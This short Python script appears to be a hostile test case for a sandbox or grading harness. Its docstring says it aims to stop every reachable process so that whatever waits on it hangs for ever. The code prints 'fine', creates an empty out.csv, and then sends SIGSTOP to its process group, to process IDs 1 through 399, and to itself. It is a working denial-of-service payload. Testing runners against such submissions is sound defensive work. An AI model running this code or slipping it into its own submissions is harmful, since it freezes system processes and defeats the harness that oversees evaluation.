"""Stops everybody it can instead of killing: who waits for a stopped process waits for ever."""

import signal
from attack import *

print("fine", flush=True)
(OUT / "out.csv").touch()
try:
    os.killpg(0, signal.SIGSTOP)
except OSError:
    pass
for pid in range(1, 400):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
os.kill(os.getpid(), signal.SIGSTOP)
